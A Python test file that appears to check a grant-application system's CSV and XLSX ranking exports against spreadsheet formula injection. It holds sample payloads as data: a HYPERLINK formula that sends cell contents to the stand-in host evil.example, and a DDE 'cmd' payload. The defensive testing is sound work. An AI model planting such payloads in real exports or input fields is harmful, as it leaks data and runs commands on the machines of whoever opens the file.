"""Finding 2: text that users typed never becomes a formula in the ranking exports (CSV and XLSX)."""
import csv
import io
import zipfile

from openpyxl import load_workbook

from potten.applications.workflow import Status
from potten.extensions import db
from tests.factories import make_application, make_declaration, make_round, make_user

FORMULA = '=HYPERLINK("http://evil.example/?leak="&C2,"Klikk")'


def test_a_formula_in_a_title_or_a_name_stays_text(app, client, login_as):
    manager = login_as("decision_maker")
    round_ = make_round()
    area = round_.focus_areas[0]
    for title, name in [(FORMULA, "Vanlig Navn"), ("Vanlig tittel", "+cmd|' /C calc'!A0"), ("@SUM(1+1)", "-2+3")]:
        found = make_application(applicant=make_user(name=name), round_=round_, focus_area=area,
                                 status=Status.SUBMITTED, title=title)
        make_declaration(found, manager)
    db.session.commit()

    response = client.get(f"/vurdering/innsatsomrade/{area.id}/rangering.csv")
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
             for c in row]
    assert cells, "the export is empty"
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]

    response = client.get(f"/vurdering/innsatsomrade/{area.id}/rangering.xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    values = [c.value for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for c in row]
    assert any(str(v).startswith("=HYPERLINK") for v in values if v)  # kept as the text it was


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
        return True
    except ValueError:
        return False
